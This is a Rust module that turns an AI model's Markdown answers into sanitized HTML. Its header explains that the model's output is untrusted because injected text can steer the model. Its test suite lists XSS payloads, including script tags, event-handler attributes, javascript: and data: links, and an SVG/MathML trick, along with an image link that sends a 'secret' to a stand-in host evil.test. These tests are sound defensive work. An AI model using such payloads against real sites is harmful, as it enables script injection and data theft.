//! An answer's Markdown as HTML. A model writes what it is told to by anyone whose text it reads, so nothing in it is
//! trusted: HTML in it is shown as text, images (which would be fetched from anywhere) are links, and what the renderer
//! makes passes a sanitizer.

use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .rm_tags(["img"])
        .add_tags(["button"])
        .add_tag_attributes("button", ["type", "data-copy"])
        .add_tag_attributes("pre", ["tabindex"])
        .add_allowed_classes("figure", ["code"])
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank");
    builder
});

/// HTML to stand inside a message. A code block is a `figure` with its language and a button that copies it.
pub fn to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, Parser::new_ext(markdown, options).map(harmless));
    SANITIZER.clean(&unsafe_html).to_string()
}

/// The event as it may stand in a message.
fn harmless(event: Event<'_>) -> Event<'_> {
    match event {
        Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
        Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
        Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url, title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Event::Start(Tag::Heading { level: below_the_page(level), id, classes, attrs })
        }
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(below_the_page(level))),
        Event::Start(Tag::CodeBlock(kind)) => Event::Html(code_head(&kind).into()),
        Event::End(TagEnd::CodeBlock) => Event::Html("</code></pre></figure>".into()),
        Event::TaskListMarker(done) => Event::Text(if done { "☑ " } else { "☐ " }.into()),
        event => event,
    }
}

/// The page has a heading of its own.
fn below_the_page(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H2,
        HeadingLevel::H2 => HeadingLevel::H3,
        HeadingLevel::H3 => HeadingLevel::H4,
        HeadingLevel::H4 => HeadingLevel::H5,
        HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

fn code_head(kind: &CodeBlockKind<'_>) -> String {
    let info = match kind {
        CodeBlockKind::Fenced(info) => info.split([' ', ',']).next().unwrap_or_default(),
        CodeBlockKind::Indented => "",
    };
    let language: String =
        info.chars().filter(|c| c.is_alphanumeric() || "+-#.".contains(*c)).take(30).collect();
    let language = if language.is_empty() { "code" } else { &language };
    format!(
        "<figure class=\"code\"><figcaption>{language}<button type=\"button\" data-copy=\"\">Copy</button></figcaption>\
         <pre tabindex=\"0\"><code>"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_html() {
        let html = to_html(
            "# A\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://example.com/)",
        );
        for part in [
            "<h2>A</h2>",
            "<li><strong>two</strong></li>",
            "<td>1</td>",
            "<a href=\"https://example.com/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ] {
            assert!(html.contains(part), "no {part} in {html}");
        }
    }

    #[test]
    fn a_code_block_has_its_language_and_a_button_to_copy_it() {
        let html = to_html("```rust,ignore\nlet a = \"<b>\";\n```");
        assert!(html.contains(
            "<figure class=\"code\"><figcaption>rust<button type=\"button\" data-copy=\"\">Copy</button>"
        ));
        assert!(html.contains("let a = \"&lt;b&gt;\";"), "{html}");
    }

    /// Each is what someone might have a model write.
    #[test]
    fn nothing_in_an_answer_runs_loads_or_leads_into_the_application() {
        for attack in [
            "<script>alert(1)</script>",
            "text <img src=x onerror=alert(1)> text",
            "<div\nonclick=alert(1)>x</div>",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](/fn/account/sign-out)",
            "[x](//evil.test/)",
            "![secret](https://evil.test/?q=secret)",
            "```<script>alert(1)</script>\nx\n```",
            "```\"><script>alert(1)</script>\nx\n```",
            "<button data-copy=\"\">x</button><iframe src=https://evil.test></iframe>",
            "<https://evil.test/\" onmouseover=alert(1)>",
            "<style>*{display:none}</style>",
            "| <svg onload=alert(1)> |\n|---|\n| <math><mi//xlink:href=\"data:x,<script>alert(1)</script>\"> |",
        ] {
            let html = to_html(attack);
            // What is text has no tags: its `<` is written as an entity.
            for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
                for forbidden in ["script", "img", "iframe", "style", "svg", "math", "div"] {
                    assert!(!tag.starts_with(forbidden), "<{tag}> of {attack:?}");
                }
                for forbidden in ["href=\"javascript", "href=\"data", "href=\"/"] {
                    assert!(!tag.contains(forbidden), "<{tag}> of {attack:?}");
                }
                assert!(!tag.contains(" on") || tag.starts_with("a href=\"http"), "<{tag}> of {attack:?}");
            }
        }
    }

    #[test]
    fn an_image_is_a_link_to_it() {
        let html = to_html("![a cat](https://example.com/cat.png)");
        assert!(
            html.contains("<a href=\"https://example.com/cat.png\"") && html.contains(">a cat</a>"),
            "{html}"
        );
    }
}
